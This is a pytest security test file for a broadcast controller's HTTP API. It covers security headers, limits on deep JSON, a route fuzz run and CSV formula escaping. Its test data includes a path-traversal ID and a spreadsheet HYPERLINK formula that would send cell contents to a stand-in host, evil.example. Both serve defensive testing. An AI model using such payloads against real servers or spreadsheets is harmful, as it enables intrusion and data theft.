"""Hardened HTTP against the real controller: security headers on every kind of
response, JSON bodies parsed within limits, and a bounded fuzz run in which no route
answers bad input with a 5xx."""

from __future__ import annotations

import json
import random
import re
from typing import Any

import aiohttp
import pytest

from controller.api import keys

pytestmark = [pytest.mark.broker, pytest.mark.slow]

SECURITY_HEADERS = {
    "Content-Security-Policy": "frame-ancestors 'none'",
    "X-Frame-Options": "DENY",
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "no-referrer",
}


async def raw(
    county: Any, method: str, path: str, *, token: bool = True, **kw: Any
) -> tuple[int, dict[str, str], bytes]:
    headers = dict(kw.pop("headers", {}))
    if token:
        headers.update(county.headers())
    async with aiohttp.ClientSession() as http, http.request(
        method, county.url + path, headers=headers, allow_redirects=False, **kw
    ) as resp:
        return resp.status, dict(resp.headers), await resp.read()


async def test_every_kind_of_response_carries_the_security_headers(make_county: Any) -> None:
    county = await make_county(villages=1)
    for method, path, token in (
        ("GET", "/", False),  # the console
        ("GET", "/static/js/app.js", False),  # a static module
        ("GET", "/api/health", False),
        ("GET", "/api/broadcasts", False),  # a 401 error
        ("GET", "/api/broadcasts", True),
        ("GET", "/media/" + "0" * 64, True),  # a 404
        ("GET", "/metrics", False),
    ):
        _, headers, _ = await raw(county, method, path, token=token)
        for name, must_contain in SECURITY_HEADERS.items():
            assert must_contain in headers.get(name, ""), (path, name, headers.get(name))
        assert "unsafe-inline" not in headers["Content-Security-Policy"]
        # HSTS only where the console is served over HTTPS (cookie_secure).
        assert "Strict-Transport-Security" not in headers


async def test_deep_json_and_lone_surrogates_are_a_400_naming_the_problem(
    make_county: Any,
) -> None:
    county = await make_county(villages=1)
    # The login takes at most 4 KiB, so its deep body is 1,500 levels; still past
    # Python's own recursion limit for a naive walk.
    for path, token, levels in (
        ("/api/session/login", False, 1500),
        ("/api/broadcasts", True, 3000),
    ):
        deep = "[" * levels + "]" * levels
        status, _, body = await raw(
            county, "POST", path, token=token, data=deep,
            headers={"Content-Type": "application/json"},
        )  # fmt: skip
        assert status == 400, (path, body[:200])
        assert json.loads(body)["error"]["field"] == "body"
    moderately_deep = {"text": "x", "params": {"a": json.loads("[" * 40 + "]" * 40)}}
    status, _, body = await raw(county, "POST", "/api/broadcasts", json=moderately_deep)
    assert status == 400 and "nested deeper" in json.loads(body)["error"]["message"]

    surrogate = '{"text": "\\ud800 防火", "category": "fire_prevention", "priority": "notice", '
    surrogate += '"targets": {"all": true}}'
    status, _, body = await raw(
        county, "POST", "/api/broadcasts", data=surrogate,
        headers={"Content-Type": "application/json"},
    )  # fmt: skip
    assert status == 400
    assert json.loads(body)["error"]["field"] == "text"


NASTY_IDS = ["1" * 20, "-1", "9" * 40, "a" * 300, "%00", "..%2F..%2Fetc", "%F0%9F%92%A3", "é"]


def nasty_bodies(rng: random.Random) -> list[tuple[dict[str, str], bytes]]:
    as_json = {"Content-Type": "application/json"}
    return [
        (as_json, b"[" * 3000 + b"]" * 3000),
        (as_json, b'{"text": "\\udfff", "name": "\\ud800"}'),
        (as_json, b"[]"),
        (as_json, b'{"limit": 1e309, "volume": 99999999999999999999999, "id": null}'),
        (as_json, json.dumps({k: "x" * 5000 for k in ("text", "name", "title")}).encode()),
        (as_json, bytes(rng.randrange(256) for _ in range(200))),
        ({"Content-Type": "multipart/form-data"}, b"--x\r\n\r\nno boundary given\r\n"),
        ({"Content-Type": "text/plain"}, b"hello"),
    ]


async def test_bounded_fuzz_no_route_answers_bad_input_with_a_5xx(make_county: Any) -> None:
    county = await make_county(villages=1)
    app = county.controller.app
    assert app is not None
    rng = random.Random(20261130)
    routes: set[tuple[str, str]] = set()
    for route in app.router.routes():
        info = route.resource.get_info() if route.resource is not None else {}
        template = info.get("formatter") or info.get("path")
        if template and route.method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
            routes.add((route.method, template))
    assert len(routes) > 40, "the fuzz run found too few routes to mean anything"
    failures: list[str] = []
    requests = 0
    for method, template in sorted(routes):
        if template.startswith("/static") or template == "/api/live":
            continue  # files, and an endless event stream
        paths = [re.sub(r"\{[^}]+\}", nasty, template) for nasty in NASTY_IDS]
        if "{" not in template:
            paths = [template + "?limit=99999999999999999999&before=%FF&count=-5"]
        for path in paths:
            bodies = nasty_bodies(rng) if method != "GET" else [({}, b"")]
            for headers, data in bodies:
                status, _, body = await raw(county, method, path, headers=headers, data=data)
                requests += 1
                if status >= 500:
                    failures.append(f"{method} {path} {headers} -> {status} {body[:120]!r}")
    assert requests > 300
    assert not failures, "\n".join(failures[:20])
    # And the controller is still healthy and still stores what it should.
    assert app[keys.DISPATCHER].connected


async def test_csv_exports_never_hand_a_spreadsheet_a_formula(make_county: Any) -> None:
    import csv
    import io

    county = await make_county(villages=1)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    bid = await county.broadcast(
        text=formula, title="+SUM(1,2)", category="fire_prevention", targets={"all": True}
    )
    await county.wait_states(bid, {"done"}, 60)
    status, _, body = await raw(county, "GET", "/api/records/broadcasts.csv")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [value for row in rows for value in row.values() if value]
    assert any(formula in c for c in cells), "the broadcast is not in the export"
    dangerous = [c for c in cells if c[0] in "=+-@"]
    assert dangerous == []
    assert "'" + formula in cells and "'+SUM(1,2)" in cells
